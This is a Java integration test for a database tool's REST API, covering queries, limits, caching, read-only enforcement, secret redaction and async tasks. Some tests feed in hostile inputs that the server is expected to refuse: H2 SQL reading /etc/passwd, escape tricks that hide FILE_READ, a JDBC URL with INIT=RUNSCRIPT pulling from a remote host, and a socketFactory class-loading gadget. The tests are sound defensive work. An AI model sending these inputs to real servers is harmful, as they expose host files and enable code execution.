package dev.dbspec.host;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.dbspec.host.rest.RestServer;
import dev.dbspec.host.runtime.DbspecConfig;
import dev.dbspec.host.runtime.ServerRuntime;
import dev.dbspec.host.security.Role;
import dev.dbspec.testdb.TestDatabase;
import dev.dbspec.testdb.TestDatabases;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** {@code dbspec serve}'s REST API over real HTTP, with the embedded cache and the in-process executor. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RestApiTest {
    @TempDir
    static Path dir;

    private ServerRuntime runtime;
    private RestServer server;
    private Http http;

    @BeforeAll
    void start() throws Exception {
        Path plugins = Files.createDirectories(dir.resolve("plugins"));
        TestPluginJars.copyBuiltPlugins(plugins);
        DbspecConfig config = DbspecConfig.defaults().with("data.dir", dir.resolve("data")).with("query.max-limit", 100_000).with("pool.max-wait-ms", 2_000);
        runtime = ServerRuntime.start(config, Optional.of(plugins));
        server = RestServer.start(runtime, "127.0.0.1", 0);
        http = new Http(server.port(), runtime.security().addUser("test", "rest-admin", Role.ADMIN).token());
    }

    @AfterAll
    void stop() {
        if (server != null) {
            server.close();
        }
        if (runtime != null) {
            runtime.close();
        }
    }

    private static Map<String, Object> body(Object... pairs) {
        Map<String, Object> body = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            body.put((String) pairs[i], pairs[i + 1]);
        }
        return body;
    }

    private String registerH2(String name, boolean readOnly) {
        String url = "jdbc:h2:mem:rest_" + UUID.randomUUID().toString().replace("-", "") + ";DB_CLOSE_DELAY=-1";
        Http.Response created = http.post("/api/databases", body("name", name, "url", url, "user", "sa",
                "password", "s3cr3t-h2", "readOnly", readOnly));
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return url;
    }

    @Test
    void healthAndEngines() {
        Http.Response health = http.get("/api/health");
        assertThat(health.status()).isEqualTo(200);
        assertThat(health.json().path("cache").path("kind").asText()).isEqualTo("embedded");
        assertThat(health.json().path("broker").path("kind").asText()).isEqualTo("in-process");
        JsonNode engines = http.get("/api/engines").json().path("engines");
        assertThat(engines.findValuesAsText("id")).contains("h2", "postgresql", "sqlite");
        for (JsonNode engine : engines) { // the version validated live (validated-versions.tsv, checked by the kit), or null
            switch (engine.path("id").asText()) {
                case "clickhouse" -> assertThat(engine.path("validatedVersion").asText()).isEqualTo("ClickHouse 18.16.x");
                case "questdb" -> assertThat(engine.path("validatedVersion").asText()).isEqualTo("QuestDB 9.3.4");
                case "presto" -> assertThat(engine.path("validatedVersion").isNull()).isTrue();
                default -> assertThat(engine.has("validatedVersion")).as(engine.path("id").asText()).isTrue();
            }
        }
        JsonNode grains = http.get("/api/engines/postgres/grains").json();
        assertThat(grains.path("engine").asText()).isEqualTo("postgresql");
        assertThat(grains.path("grains").path("P1D").asText()).contains("{col}");
        Http.Response unknown = http.get("/api/engines/nosuch/grains");
        assertThat(unknown.status()).isEqualTo(400);
        assertThat(unknown.json().path("error").asText()).isEqualTo("unknown_engine");
    }

    @Test
    void sqlLimitAndInspect() {
        JsonNode limited = http.post("/api/sql/limit", body("engine", "postgresql", "sql", "SELECT * FROM t", "limit", 10)).json();
        assertThat(limited.path("sql").asText()).isEqualTo("SELECT * FROM t LIMIT 10");
        JsonNode inspected = http.post("/api/sql/inspect", body("engine", "h2", "sql", "SELECT a FROM s.t LIMIT 5; DELETE FROM u")).json();
        assertThat(inspected.path("statements").get(0).path("limit").asLong()).isEqualTo(5);
        assertThat(inspected.path("statements").get(1).path("kind").asText()).isEqualTo("mutating");
        assertThat(inspected.path("readOnly").asBoolean()).isFalse();
        Http.Response bad = http.post("/api/sql/inspect", body("engine", "h2", "sql", "SELECT 'unterminated"));
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.json().path("error").asText()).isEqualTo("sql_parse_error");
    }

    @Test
    void h2DatabaseRegisteredQueriedLimitedAndTyped() {
        registerH2("h2main", false);
        Http.Response created = http.post("/api/query", body("database", "h2main", "sql",
                "CREATE TABLE t(id INT, name VARCHAR(20), price DECIMAL(10,2), ok BOOLEAN, d DATE)"));
        assertThat(created.status()).as(created.body()).isEqualTo(200);
        Http.Response inserted = http.post("/api/query", body("database", "h2main", "sql",
                "INSERT INTO t SELECT X, 'n' || X, X * 1.5, X % 2 = 0, DATEADD(DAY, X, DATE '2024-01-01') FROM SYSTEM_RANGE(1, 50)"));
        assertThat(inserted.json().path("updateCount").asLong()).as(inserted.body()).isEqualTo(50);
        Http.Response rows = http.post("/api/query", body("database", "h2main", "sql", "SELECT * FROM t ORDER BY id", "limit", 3));
        assertThat(rows.status()).as(rows.body()).isEqualTo(200);
        JsonNode json = rows.json();
        assertThat(json.path("columns").findValuesAsText("name")).containsExactly("ID", "NAME", "PRICE", "OK", "D");
        assertThat(json.path("columns").findValuesAsText("type")).containsExactly("INTEGER", "STRING", "DECIMAL", "BOOLEAN", "DATE");
        assertThat(json.path("rowCount").asLong()).isEqualTo(3);
        assertThat(json.path("truncated").asBoolean()).isTrue();
        assertThat(json.path("limitOutcome").asText()).isEqualTo("LIMITED");
        JsonNode own = http.post("/api/query", body("database", "h2main", "sql", "SELECT * FROM t ORDER BY id LIMIT 2", "limit", 3)).json();
        assertThat(own.path("rowCount").asLong()).isEqualTo(2);
        assertThat(own.path("truncated").asBoolean()).isFalse();
        assertThat(own.path("limitOutcome").asText()).isEqualTo("ALREADY_LIMITED");
        JsonNode larger = http.post("/api/query", body("database", "h2main", "sql", "SELECT * FROM t ORDER BY id LIMIT 4", "limit", 3)).json();
        assertThat(larger.path("rowCount").asLong()).isEqualTo(3);
        assertThat(larger.path("truncated").asBoolean()).isTrue();
        assertThat(larger.path("limitOutcome").asText()).as("the user's LIMIT 4 is lowered to the limit").isEqualTo("LIMITED");
        assertThat(rows.body()).contains("\"rows\":[[1,\"n1\",1.50,false,\"2024-01-02\"],");
        Http.Response again = http.post("/api/query", body("database", "h2main", "sql", "SELECT * FROM t ORDER BY id", "limit", 3));
        assertThat(again.headers().firstValue("X-Dbspec-Cache")).contains("hit");
        assertThat(again.body()).isEqualTo(rows.body());
        assertThat(rows.headers().firstValue("X-Dbspec-Cache")).contains("miss");
        Http.Response syntax = http.post("/api/query", body("database", "h2main", "sql", "SELEC 1"));
        assertThat(syntax.status()).isEqualTo(400);
        Http.Response missing = http.post("/api/query", body("database", "h2main", "sql", "SELECT * FROM no_such_table"));
        assertThat(missing.status()).isEqualTo(400);
        assertThat(missing.json().path("error").asText()).isEqualTo("missing_table");
        assertThat(missing.body()).doesNotContain("at org.", "Exception");
    }

    @Test
    void readOnlyDatabaseRefusesMutatingStatements() {
        registerH2("h2ro", true);
        Http.Response refused = http.post("/api/query", body("database", "h2ro", "sql", "SELECT 1; DROP TABLE x"));
        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.json().path("message").asText()).contains("read-only");
        assertThat(http.post("/api/query", body("database", "h2ro", "sql", "SELECT 1 AS one")).status()).isEqualTo(200);
    }

    /**
     * H2 runs inside the server: its file functions, Java aliases, scripts and dynamic SQL would reach the
     * host; refused while files are confined (the default), whatever comments, strings or escapes hide them.
     */
    @Test
    void embeddedEngineSqlThatReachesTheHostIsRefused() {
        registerH2("h2host", false);
        for (String sql : new String[] {"SELECT FILE_READ('/etc/passwd')", "select * from csvread('/etc/passwd')",
                "CREATE ALIAS EXEC_CMD AS 'String e(String c) throws Exception { return c; }'", "SCRIPT TO '/tmp/dump.sql'",
                "call \"CSVWRITE\"('/tmp/x.csv', 'SELECT 1')", "SELECT 1; RUNSCRIPT FROM '/tmp/x.sql'",
                "SELECT 1 // '\n, FILE_READ('/etc/hostname') -- '", "SELECT U&\"FILE\\005fREAD\"('/etc/hostname')",
                "EXECUTE IMMEDIATE 'CREATE ALIAS GETP FOR ''java.lang.System.getProperty(java.lang.String)'''",
                "SELECT 'FILE_READ(x) is only mentioned' AS note"}) {
            Http.Response refused = http.post("/api/query", body("database", "h2host", "sql", sql));
            assertThat(refused.status()).as(sql + " -> " + refused.body()).isEqualTo(403);
            assertThat(refused.json().path("message").asText()).contains("host's files", "files.allow-any-path");
        }
        registerH2("h2hostro", true);
        Http.Response readOnlyGuard = http.post("/api/query", body("database", "h2hostro", "sql",
                "SELECT 1 // '\n; DROP TABLE IF EXISTS nothing_here -- '"));
        assertThat(readOnlyGuard.status()).as("H2's // comment hides no statement: " + readOnlyGuard.body()).isEqualTo(403);
        assertThat(readOnlyGuard.json().path("message").asText()).contains("read-only");
        Http.Response fine = http.post("/api/query", body("database", "h2host", "sql",
                "SELECT 'script' AS file_reader, 1 AS script -- a comment"));
        assertThat(fine.status()).as(fine.body()).isEqualTo(200);
    }

    /** DuckDB's settings that write outside its sandbox, and H2 JAVA_OBJECT values, which are never deserialized. */
    @Test
    void duckdbSettingsThatWriteFilesAndJavaObjectsStayInTheirBox() throws Exception {
        Path files = Files.createDirectories(dir.resolve("data").resolve("files"));
        assertThat(http.post("/api/databases", body("name", "duck", "url", "jdbc:duckdb:" + files.resolve("rest.duckdb"))).status())
                .isEqualTo(201);
        for (String sql : new String[] {"SET profiling_output='/tmp/dbspec-prof.json'", "PRAGMA log_query_path='/tmp/q.log'",
                "SET GLOBAL secret_directory='/tmp'"}) {
            Http.Response refused = http.post("/api/query", body("database", "duck", "sql", sql));
            assertThat(refused.status()).as(sql + " -> " + refused.body()).isEqualTo(403);
        }
        assertThat(http.post("/api/query", body("database", "duck", "sql", "SELECT 42 AS answer")).json().path("rows").toString())
                .isEqualTo("[[42]]");

        registerH2("h2objects", true);
        java.io.ByteArrayOutputStream serialized = new java.io.ByteArrayOutputStream();
        try (java.io.ObjectOutputStream out = new java.io.ObjectOutputStream(serialized)) {
            out.writeObject(new java.util.Date(0));
        }
        StringBuilder hex = new StringBuilder();
        for (byte b : serialized.toByteArray()) {
            hex.append(String.format("%02x", b));
        }
        JsonNode object = http.post("/api/query", body("database", "h2objects", "sql",
                "SELECT CAST(X'" + hex + "' AS JAVA_OBJECT) AS o")).json();
        assertThat(object.path("rows").get(0).get(0).asText()).as("the bytes, not a deserialized Date")
                .isEqualTo(java.util.Base64.getEncoder().encodeToString(serialized.toByteArray()));
    }

    /** A read-only database is read-only at the engine too: functions with side effects fail there. */
    @Test
    void readOnlyPostgresqlRefusesSideEffectsOfFunctions() {
        TestDatabase database = TestDatabases.require("postgresql");
        for (String name : new String[] {"pgrw", "pgro"}) {
            assertThat(http.post("/api/databases", body("name", name, "url", database.jdbcUrl(), "user", database.user().orElse(null),
                    "password", database.password().orElse(null), "readOnly", name.equals("pgro"))).status()).isEqualTo(201);
        }
        assertThat(http.post("/api/query", body("database", "pgrw", "sql", "CREATE SEQUENCE IF NOT EXISTS dbspec_ro_seq")).status()).isEqualTo(200);
        try {
            Http.Response refused = http.post("/api/query", body("database", "pgro", "sql", "SELECT nextval('dbspec_ro_seq') AS n"));
            assertThat(refused.status()).as(refused.body()).isNotEqualTo(200);
            // refused before it runs (nextval is a refused function); the engine's own refusal: ReadOnlyEnforcementTest
            assertThat(refused.body()).containsIgnoringCase("read-only").contains("NEXTVAL()");
            assertThat(http.post("/api/query", body("database", "pgro", "sql", "SELECT 1 AS one")).status()).isEqualTo(200);
        } finally {
            http.post("/api/query", body("database", "pgrw", "sql", "DROP SEQUENCE IF EXISTS dbspec_ro_seq"));
        }
    }

    /** A request that changes its session does not hand those settings to the next request on the pooled connection. */
    @Test
    void sessionSettingsDoNotLeakToTheNextRequest() {
        TestDatabase database = TestDatabases.require("postgresql");
        assertThat(http.post("/api/databases", body("name", "pgsession", "url", database.jdbcUrl(), "user", database.user().orElse(null),
                "password", database.password().orElse(null))).status()).isEqualTo(201);
        Http.Response set = http.post("/api/query", body("database", "pgsession", "sql", "SET application_name = 'dbspec_leak'"));
        assertThat(set.status()).as(set.body()).isEqualTo(200);
        JsonNode after = http.post("/api/query", body("database", "pgsession", "sql",
                "SELECT current_setting('application_name') AS name")).json();
        assertThat(after.path("rows").get(0).get(0).asText()).isNotEqualTo("dbspec_leak");
    }

    @Test
    void secretsNeverAppearInAnswers() {
        registerH2("h2secret", false);
        Http.Response listed = http.get("/api/databases");
        Http.Response one = http.get("/api/databases/h2secret");
        assertThat(listed.body()).contains("h2secret").doesNotContain("s3cr3t-h2");
        assertThat(one.body()).doesNotContain("s3cr3t-h2");
        assertThat(one.json().path("hasPassword").asBoolean()).isTrue();
        assertThat(runtime.databases().registration("h2secret").orElseThrow().toString()).doesNotContain("s3cr3t-h2");
        Http.Response checked = http.post("/api/databases", body("name", "pgurl",
                "url", "jdbc:postgresql://127.0.0.1:1/test?password=topsecret", "user", "postgres"));
        assertThat(checked.status()).as(checked.body()).isEqualTo(400);
        assertThat(checked.json().path("category").asText()).isEqualTo("unreachable_host");
        assertThat(checked.body()).doesNotContain("topsecret");
        Http.Response withPasswordInUrl = http.post("/api/databases", body("name", "pgurl",
                "url", "jdbc:postgresql://127.0.0.1:1/test?password=topsecret", "user", "postgres", "verify", false));
        assertThat(withPasswordInUrl.status()).isEqualTo(201);
        assertThat(withPasswordInUrl.body()).doesNotContain("topsecret");
        Http.Response unreachable = http.post("/api/query", body("database", "pgurl", "sql", "SELECT 1"));
        assertThat(unreachable.status()).as(unreachable.body()).isEqualTo(502);
        assertThat(unreachable.json().path("error").asText()).isEqualTo("unreachable_host");
        assertThat(unreachable.body()).doesNotContain("topsecret");
        assertThat(http.delete("/api/databases/pgurl").status()).isEqualTo(204);
    }

    @Test
    void dangerousUrlsAndBadInputAreClear4xx() {
        Http.Response init = http.post("/api/databases", body("name", "evil",
                "url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'"));
        assertThat(init.status()).isEqualTo(400);
        assertThat(init.json().path("message").asText()).contains("INIT");
        Http.Response socketFactory = http.post("/api/databases", body("name", "evil2", "url", "jdbc:postgresql://127.0.0.1/test",
                "options", Map.of("socketFactory", "org.springframework.context.support.ClassPathXmlApplicationContext")));
        assertThat(socketFactory.status()).isEqualTo(400);
        assertThat(socketFactory.json().path("message").asText()).contains("socketFactory");
        assertThat(http.post("/api/databases", body("name", "x", "url", "jdbc:nosuch:foo")).status()).isEqualTo(400);
        assertThat(http.post("/api/databases", "{not json").json().path("error").asText()).isEqualTo("invalid_json");
        assertThat(http.post("/api/databases", body("url", "jdbc:h2:mem:y")).json().path("message").asText()).contains("'name' is required");
        assertThat(http.post("/api/query", body("database", "nosuch", "sql", "SELECT 1")).status()).isEqualTo(404);
        assertThat(http.get("/api/tasks/nosuch").status()).isEqualTo(404);
        assertThat(http.get("/api/nothing").json().path("error").asText()).isEqualTo("not_found");
        registerH2("dup", false);
        assertThat(http.post("/api/databases", body("name", "dup", "url", "jdbc:h2:mem:z")).status()).isEqualTo(409);
        assertThat(http.delete("/api/databases/dup").status()).isEqualTo(204);
        assertThat(http.delete("/api/databases/dup").status()).isEqualTo(404);
    }

    @Test
    void livePostgresqlQueryTimeoutAndAsyncTask() throws Exception {
        TestDatabase database = TestDatabases.require("postgresql");
        Map<String, Object> registration = body("name", "pg", "url", database.jdbcUrl(), "user", database.user().orElse(null),
                "password", database.password().orElse(null));
        assertThat(http.post("/api/databases", registration).status()).isEqualTo(201);
        JsonNode rows = http.post("/api/query", body("database", "pg", "sql",
                "SELECT g AS n, now()::timestamp AS at, 0.5::float8 AS f FROM generate_series(1, 10) g", "limit", 4)).json();
        assertThat(rows.path("rowCount").asLong()).isEqualTo(4);
        assertThat(rows.path("truncated").asBoolean()).as("10 rows, 4 sent").isTrue();
        JsonNode all = http.post("/api/query", body("database", "pg", "sql", "SELECT g FROM generate_series(1, 10) g", "limit", 10)).json();
        assertThat(all.path("rowCount").asLong()).isEqualTo(10);
        assertThat(all.path("truncated").asBoolean()).as("10 rows, all sent").isFalse();
        assertThat(rows.path("columns").findValuesAsText("type")).containsExactly("INTEGER", "TIMESTAMP", "FLOAT");
        // timeoutSeconds 0 would reach the driver as "no limit": refused
        Http.Response unlimited = http.post("/api/query", body("database", "pg", "sql", "SELECT pg_sleep(5)", "timeoutSeconds", 0));
        assertThat(unlimited.status()).as(unlimited.body()).isEqualTo(400);
        assertThat(unlimited.json().path("message").asText()).contains("outside 1..");
        Http.Response timeout = http.post("/api/query", body("database", "pg", "sql", "SELECT pg_sleep(5)", "timeoutSeconds", 1));
        assertThat(timeout.status()).as(timeout.body()).isEqualTo(408);
        assertThat(timeout.json().path("error").asText()).isEqualTo("timeout");

        Http.Response submitted = http.post("/api/query/async", body("database", "pg", "sql", "SELECT 41 + 1 AS answer"));
        assertThat(submitted.status()).isEqualTo(202);
        String taskId = submitted.json().path("taskId").asText();
        JsonNode result = awaitResult(taskId);
        assertThat(result.path("rows").get(0).get(0).asInt()).isEqualTo(42);

        String slow = http.post("/api/query/async", body("database", "pg", "sql", "SELECT pg_sleep(30)")).json().path("taskId").asText();
        awaitState(slow, "RUNNING");
        long started = System.nanoTime();
        assertThat(http.delete("/api/tasks/" + slow).status()).isEqualTo(202);
        awaitState(slow, "CANCELLED");
        assertThat((System.nanoTime() - started) / 1_000_000).isLessThan(5_000);
        assertThat(http.get("/api/tasks/" + slow + "/result").status()).isEqualTo(410);
        assertThat(http.delete("/api/databases/pg").status()).isEqualTo(204);
        assertThat(runtime.databases().openPools()).doesNotContain("pg");
    }

    private JsonNode awaitResult(String taskId) throws InterruptedException {
        awaitState(taskId, "SUCCEEDED");
        Http.Response result = http.get("/api/tasks/" + taskId + "/result");
        assertThat(result.status()).as(result.body()).isEqualTo(200);
        return result.json();
    }

    private void awaitState(String taskId, String state) throws InterruptedException {
        long deadline = System.nanoTime() + 20_000_000_000L;
        String seen = "";
        while (System.nanoTime() < deadline) {
            seen = http.get("/api/tasks/" + taskId).json().path("state").asText();
            if (seen.equals(state)) {
                return;
            }
            Thread.sleep(50);
        }
        throw new AssertionError("task " + taskId + " is " + seen + ", expected " + state);
    }
}
